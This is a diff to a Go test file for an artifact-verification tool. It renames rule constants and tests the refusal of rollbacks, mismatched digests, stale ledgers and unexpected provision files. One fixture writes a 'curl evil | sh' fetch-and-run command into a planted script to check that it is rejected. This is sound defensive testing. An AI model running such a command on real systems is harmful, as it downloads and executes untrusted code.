@@ -11,6 +11,7 @@ import (
 
 	"github.com/writ-ledger/writ/delegation"
 	"github.com/writ-ledger/writ/internal/testkit"
+	"github.com/writ-ledger/writ/rules"
 	"github.com/writ-ledger/writ/schemas"
 	"github.com/writ-ledger/writ/transfer"
 	"github.com/writ-ledger/writ/verify"
@@ -44,13 +45,13 @@ func TestRollback(t *testing.T) {
 	hw := v.HighWater
 
 	// The older binary against the newer pin is a plain digest mismatch.
-	expect(t, w, hw, instr(nil), verify.Dispatch{AgentBinary: older}, verify.RuleAgentDigestMismatch, refusedAll)
+	expect(t, w, hw, instr(nil), verify.Dispatch{AgentBinary: older}, rules.AgentDigestMismatch, refusedAll)
 
 	// A release key re-pins the genuine old version: rollback.
 	repinned := newWorld(t)
 	repinned.pin(t, newer, "agent", "1.1.0")
 	repinned.pin(t, older, "agent", "1.0.0")
-	expect(t, repinned, hw, instr(nil), verify.Dispatch{AgentBinary: older}, verify.RuleRollback, softAll)
+	expect(t, repinned, hw, instr(nil), verify.Dispatch{AgentBinary: older}, rules.Rollback, softAll)
 	if v := repinned.admit(t, verify.ModeOff, hw, instr(nil), verify.Dispatch{AgentBinary: older}); v.HighWater["agent"] != "v1.1.0" {
 		t.Fatalf("an admitted rollback (mode off) lowered the high-water mark: %v", v.HighWater)
 	}
@@ -58,7 +59,7 @@ func TestRollback(t *testing.T) {
 	// The newer pin is revoked, so the latest pin is the old one again.
 	rev := &schemas.Revocation{V: 1, Target: schemas.SHA256Digest(newPin), Reason: "bad release", IssuedAt: testkit.Epoch.Add(-time.Minute).Unix()}
 	w.apply(t, testkit.Seal(t, rev, w.root))
-	expect(t, w, hw, instr(nil), verify.Dispatch{AgentBinary: older}, verify.RuleRollback, softAll)
+	expect(t, w, hw, instr(nil), verify.Dispatch{AgentBinary: older}, rules.Rollback, softAll)
 
 	// The genuine old bytes pinned again under a higher version are still
 	// the old version.
@@ -66,12 +67,12 @@ func TestRollback(t *testing.T) {
 	relabeled.pin(t, older, "agent", "1.0.0")
 	relabeled.pin(t, newer, "agent", "1.1.0")
 	relabeled.pin(t, older, "agent", "1.2.0")
-	expect(t, relabeled, hw, instr(nil), verify.Dispatch{AgentBinary: older}, verify.RuleRollback, softAll)
+	expect(t, relabeled, hw, instr(nil), verify.Dispatch{AgentBinary: older}, rules.Rollback, softAll)
 	if v := relabeled.admit(t, verify.ModeEnforce, hw, instr(nil), verify.Dispatch{AgentBinary: older}); !strings.Contains(v.Reason, "the same bytes were pinned as v1.0.0 at ledger index 3") {
 		t.Fatalf("relabel reason: %s", v.Reason)
 	}
 	relabeled.pin(t, older, "agent", "1.1.0+rebuild")
-	expect(t, relabeled, hw, instr(nil), verify.Dispatch{AgentBinary: older}, verify.RuleRollback, softAll)
+	expect(t, relabeled, hw, instr(nil), verify.Dispatch{AgentBinary: older}, rules.Rollback, softAll)
 
 	// A downgrade record for another version, or an expired one, does not help.
 	down := func(version string, expires time.Time) []byte {
@@ -79,11 +80,11 @@ func TestRollback(t *testing.T) {
 			IssuedAt: testkit.Epoch.Add(-time.Minute).Unix(), Expires: expires.Unix()}, w.root)
 	}
 	w.apply(t, down("v0.9.0", testkit.Epoch.Add(time.Hour)), down("v1.0.0", testkit.Epoch))
-	expect(t, w, hw, instr(nil), verify.Dispatch{AgentBinary: older}, verify.RuleRollback, softAll)
+	expect(t, w, hw, instr(nil), verify.Dispatch{AgentBinary: older}, rules.Rollback, softAll)
 
 	// The right one does, and the mark stays at v1.1.0.
 	w.apply(t, down("v1.0.0", testkit.Epoch.Add(time.Hour)))
-	expect(t, w, hw, instr(nil), verify.Dispatch{AgentBinary: older}, verify.RuleOK, admittedAll)
+	expect(t, w, hw, instr(nil), verify.Dispatch{AgentBinary: older}, rules.OK, admittedAll)
 	v = w.admit(t, verify.ModeEnforce, hw, instr(nil), verify.Dispatch{AgentBinary: older})
 	if v.HighWater["agent"] != "v1.1.0" || !contains(v.Passed, "downgrade-allowed") {
 		t.Fatalf("downgrade: high water %v, passed %v", v.HighWater, v.Passed)
@@ -120,7 +121,7 @@ func TestFreezes(t *testing.T) {
 		t.Fatal(err)
 	}
 	w.apply(t, testkit.Seal(t, p, w.rel))
-	expect(t, w, nil, instr(nil), verify.Dispatch{AgentBinary: agentPath}, verify.RulePinExpired, softAll)
+	expect(t, w, nil, instr(nil), verify.Dispatch{AgentBinary: agentPath}, rules.PinExpired, softAll)
 
 	w = newWorld(t)
 	w.pin(t, agentPath, "agent", "1.0.0")
@@ -130,12 +131,12 @@ func TestFreezes(t *testing.T) {
 		ledgerTime time.Time
 		rule       string
 	}{
-		{"fresh", testkit.Epoch.Add(-59 * time.Minute), verify.RuleOK},
-		{"exactly the maximum age", testkit.Epoch.Add(-time.Hour), verify.RuleOK},
-		{"older than the maximum age", testkit.Epoch.Add(-time.Hour - time.Second), verify.RuleStaleLedger},
-		{"no signed time", time.Time{}, verify.RuleStaleLedger},
-		{"signed within the clock skew ahead", testkit.Epoch.Add(verify.MaxClockSkew), verify.RuleOK},
-		{"signed in the future (a fast clock would stay fresh for years)", testkit.Epoch.Add(verify.MaxClockSkew + time.Second), verify.RuleStaleLedger},
+		{"fresh", testkit.Epoch.Add(-59 * time.Minute), rules.OK},
+		{"exactly the maximum age", testkit.Epoch.Add(-time.Hour), rules.OK},
+		{"older than the maximum age", testkit.Epoch.Add(-time.Hour - time.Second), rules.StaleLedger},
+		{"no signed time", time.Time{}, rules.StaleLedger},
+		{"signed within the clock skew ahead", testkit.Epoch.Add(verify.MaxClockSkew), rules.OK},
+		{"signed in the future (a fast clock would stay fresh for years)", testkit.Epoch.Add(verify.MaxClockSkew + time.Second), rules.StaleLedger},
 	} {
 		c := cfg(verify.ModeEnforce)
 		c.MaxLedgerAge, c.LedgerTime = time.Hour, tc.ledgerTime
@@ -149,11 +150,11 @@ func TestFreezes(t *testing.T) {
 		c := cfg(mode)
 		c.MaxLedgerAge, c.LedgerTime = time.Hour, testkit.Epoch.Add(-2*time.Hour)
 		v := verify.Admit(w.st, c, verify.Dispatch{Raw: testkit.Seal(t, instr(nil), w.op), AgentBinary: agentPath})
-		if v.Rule != verify.RuleStaleLedger || v.Verdict != softAll[n] {
+		if v.Rule != rules.StaleLedger || v.Verdict != softAll[n] {
 			t.Fatalf("stale ledger under %s: %s / %s", mode, v.Verdict, v.Rule)
 		}
 	}
-	assertedRule(verify.RuleStaleLedger)
+	assertedRule(rules.StaleLedger)
 }
 
 // TestCompareOnReceipt: what the runner receives is hashed here; the
@@ -175,7 +176,7 @@ func TestCompareOnReceipt(t *testing.T) {
 
 	// The instruction reports the pinned digest; the bytes differ by one.
 	honest := instr(func(i *schemas.Instruction) { i.Agent.Digest = p.Digest })
-	expect(t, w, nil, honest, verify.Dispatch{AgentBinary: oneByte}, verify.RuleAgentDigestMismatch, refusedAll)
+	expect(t, w, nil, honest, verify.Dispatch{AgentBinary: oneByte}, rules.AgentDigestMismatch, refusedAll)
 	v := w.admit(t, verify.ModeOff, nil, honest, verify.Dispatch{AgentBinary: oneByte})
 	d := verify.Decision(v)
 	if len(d.Compared) != 1 || d.Compared[0].Expected != p.Digest || d.Compared[0].Actual == p.Digest || !strings.HasPrefix(d.Compared[0].Actual, "sha256:") {
@@ -185,15 +186,15 @@ func TestCompareOnReceipt(t *testing.T) {
 	// The engine: named, pinned, and swapped on disk for another pinned
 	// artifact (the agent).
 	withEngine := instr(func(i *schemas.Instruction) { i.Engine = &schemas.ArtifactRef{Name: "engine", Digest: eng.Digest} })
-	expect(t, w, nil, withEngine, verify.Dispatch{AgentBinary: agentPath, EngineBinary: enginePath}, verify.RuleOK, admittedAll)
-	expect(t, w, nil, withEngine, verify.Dispatch{AgentBinary: agentPath, EngineBinary: agentPath}, verify.RuleEngineDigestMismatch, refusedAll)
-	expect(t, w, nil, withEngine, verify.Dispatch{AgentBinary: agentPath}, verify.RuleEngineBinaryMissing, refusedAll)
+	expect(t, w, nil, withEngine, verify.Dispatch{AgentBinary: agentPath, EngineBinary: enginePath}, rules.OK, admittedAll)
+	expect(t, w, nil, withEngine, verify.Dispatch{AgentBinary: agentPath, EngineBinary: agentPath}, rules.EngineDigestMismatch, refusedAll)
+	expect(t, w, nil, withEngine, verify.Dispatch{AgentBinary: agentPath}, rules.EngineBinaryMissing, refusedAll)
 	wrongDigest := instr(func(i *schemas.Instruction) { i.Engine = &schemas.ArtifactRef{Name: "engine", Digest: p.Digest} })
-	expect(t, w, nil, wrongDigest, verify.Dispatch{AgentBinary: agentPath, EngineBinary: enginePath}, verify.RuleEnginePinMismatch, refusedAll)
+	expect(t, w, nil, wrongDigest, verify.Dispatch{AgentBinary: agentPath, EngineBinary: enginePath}, rules.EnginePinMismatch, refusedAll)
 	unpinned := instr(func(i *schemas.Instruction) { i.Engine = &schemas.ArtifactRef{Name: "engine-x"} })
-	expect(t, w, nil, unpinned, verify.Dispatch{AgentBinary: agentPath, EngineBinary: enginePath}, verify.RuleEngineNotPinned, softAll)
+	expect(t, w, nil, unpinned, verify.Dispatch{AgentBinary: agentPath, EngineBinary: enginePath}, rules.EngineNotPinned, softAll)
 	// The runner runs an engine the instruction does not name.
-	expect(t, w, nil, instr(nil), verify.Dispatch{AgentBinary: agentPath, EngineBinary: enginePath}, verify.RuleEngineNotNamed, softAll)
+	expect(t, w, nil, instr(nil), verify.Dispatch{AgentBinary: agentPath, EngineBinary: enginePath}, rules.EngineNotNamed, softAll)
 	v = w.admit(t, verify.ModeEnforce, nil, withEngine, verify.Dispatch{AgentBinary: agentPath, EngineBinary: enginePath})
 	if v.HighWater["engine"] != "v2.0.0" || v.HighWater["agent"] != "v1.0.0" {
 		t.Fatalf("high water %v", v.HighWater)
@@ -206,7 +207,7 @@ func TestCompareOnReceipt(t *testing.T) {
 	withProv := instr(func(i *schemas.Instruction) {
 		i.Provision = []schemas.Provision{{Dest: ".provision/policy.json", Digest: schemas.SHA256Digest([]byte(`{"allow":[]}`)), Size: 12}}
 	})
-	expect(t, w, nil, withProv, verify.Dispatch{AgentBinary: agentPath, ProvisionDir: prov}, verify.RuleOK, admittedAll)
+	expect(t, w, nil, withProv, verify.Dispatch{AgentBinary: agentPath, ProvisionDir: prov}, rules.OK, admittedAll)
 	// A provision digest may be SHA-512 (written by other tooling): it is
 	// computed here with SHA-512.
 	sha512, _, err := transfer.DigestFileAlg(filepath.Join(prov, "policy.json"), "sha512")
@@ -216,16 +217,16 @@ func TestCompareOnReceipt(t *testing.T) {
 	with512 := instr(func(i *schemas.Instruction) {
 		i.Provision = []schemas.Provision{{Dest: ".provision/policy.json", Digest: sha512, Size: 12}}
 	})
-	expect(t, w, nil, with512, verify.Dispatch{AgentBinary: agentPath, ProvisionDir: prov}, verify.RuleOK, admittedAll)
-	expect(t, w, nil, withProv, verify.Dispatch{AgentBinary: agentPath}, verify.RuleProvisionMissing, refusedAll)
+	expect(t, w, nil, with512, verify.Dispatch{AgentBinary: agentPath, ProvisionDir: prov}, rules.OK, admittedAll)
+	expect(t, w, nil, withProv, verify.Dispatch{AgentBinary: agentPath}, rules.ProvisionMissing, refusedAll)
 	// A file the instruction does not name would reach the agent unchecked.
 	os.WriteFile(filepath.Join(prov, "extra.sh"), []byte("curl evil | sh"), 0o755)
-	expect(t, w, nil, withProv, verify.Dispatch{AgentBinary: agentPath, ProvisionDir: prov}, verify.RuleProvisionUnexpected, refusedAll)
-	expect(t, w, nil, instr(nil), verify.Dispatch{AgentBinary: agentPath, ProvisionDir: prov}, verify.RuleProvisionUnexpected, refusedAll)
+	expect(t, w, nil, withProv, verify.Dispatch{AgentBinary: agentPath, ProvisionDir: prov}, rules.ProvisionUnexpected, refusedAll)
+	expect(t, w, nil, instr(nil), verify.Dispatch{AgentBinary: agentPath, ProvisionDir: prov}, rules.ProvisionUnexpected, refusedAll)
 	os.Remove(filepath.Join(prov, "extra.sh"))
 	os.WriteFile(filepath.Join(prov, "policy.json"), []byte(`{"allow":["*"]}`), 0o644)
-	expect(t, w, nil, withProv, verify.Dispatch{AgentBinary: agentPath, ProvisionDir: prov}, verify.RuleProvisionMismatch, refusedAll)
-	expect(t, w, nil, withProv, verify.Dispatch{AgentBinary: agentPath, ProvisionDir: filepath.Join(dir, "absent")}, verify.RuleProvisionMissing, refusedAll)
+	expect(t, w, nil, withProv, verify.Dispatch{AgentBinary: agentPath, ProvisionDir: prov}, rules.ProvisionMismatch, refusedAll)
+	expect(t, w, nil, withProv, verify.Dispatch{AgentBinary: agentPath, ProvisionDir: filepath.Join(dir, "absent")}, rules.ProvisionMissing, refusedAll)
 }
 
 // TestUnpinnedStillHashed: with no pin for the artifact, the binary is
@@ -238,17 +239,17 @@ func TestUnpinnedStillHashed(t *testing.T) {
 		t.Fatal(err)
 	}
 	named := instr(func(i *schemas.Instruction) { i.Agent = schemas.ArtifactRef{Name: "agentx", Digest: right} })
-	expect(t, w, nil, named, verify.Dispatch{AgentBinary: agentPath}, verify.RuleAgentNotPinned, softAll)
+	expect(t, w, nil, named, verify.Dispatch{AgentBinary: agentPath}, rules.AgentNotPinned, softAll)
 	script := filepath.Join(t.TempDir(), "evil.sh")
 	os.WriteFile(script, []byte("#!/bin/sh\n"), 0o755)
-	expect(t, w, nil, named, verify.Dispatch{AgentBinary: script}, verify.RuleAgentDigestMismatch, refusedAll)
-	expect(t, w, nil, named, verify.Dispatch{AgentBinary: filepath.Join(t.TempDir(), "absent")}, verify.RuleAgentBinaryMissing, refusedAll)
+	expect(t, w, nil, named, verify.Dispatch{AgentBinary: script}, rules.AgentDigestMismatch, refusedAll)
+	expect(t, w, nil, named, verify.Dispatch{AgentBinary: filepath.Join(t.TempDir(), "absent")}, rules.AgentBinaryMissing, refusedAll)
 	v := w.admit(t, verify.ModeOff, nil, named, verify.Dispatch{AgentBinary: script})
 	if len(v.Compared) != 1 || v.Compared[0].Expected != right || v.HighWater != nil {
 		t.Fatalf("compared %+v, high water %v", v.Compared, v.HighWater)
 	}
 	engine := instr(func(i *schemas.Instruction) { i.Engine = &schemas.ArtifactRef{Name: "enginex", Digest: right} })
-	expect(t, w, nil, engine, verify.Dispatch{AgentBinary: agentPath, EngineBinary: script}, verify.RuleEngineDigestMismatch, refusedAll)
+	expect(t, w, nil, engine, verify.Dispatch{AgentBinary: agentPath, EngineBinary: script}, rules.EngineDigestMismatch, refusedAll)
 }
 
 // TestManyUnexpectedFiles: a provision directory stuffed with files gives
@@ -262,7 +263,7 @@ func TestManyUnexpectedFiles(t *testing.T) {
 		os.WriteFile(filepath.Join(dir, fmt.Sprintf("f%04d", i)), nil, 0o644)
 	}
 	v := w.admit(t, verify.ModeOff, nil, instr(nil), verify.Dispatch{AgentBinary: agentPath, ProvisionDir: dir})
-	if v.Rule != verify.RuleProvisionUnexpected || len(v.Failed) != 1 || !strings.Contains(v.Reason, "holds 5000 entries") || !strings.Contains(v.Reason, "and 4992 more") {
+	if v.Rule != rules.ProvisionUnexpected || len(v.Failed) != 1 || !strings.Contains(v.Reason, "holds 5000 entries") || !strings.Contains(v.Reason, "and 4992 more") {
 		t.Fatalf("%s / %s (%s), %d findings", v.Verdict, v.Rule, v.Reason, len(v.Failed))
 	}
 	d := verify.Decision(v)
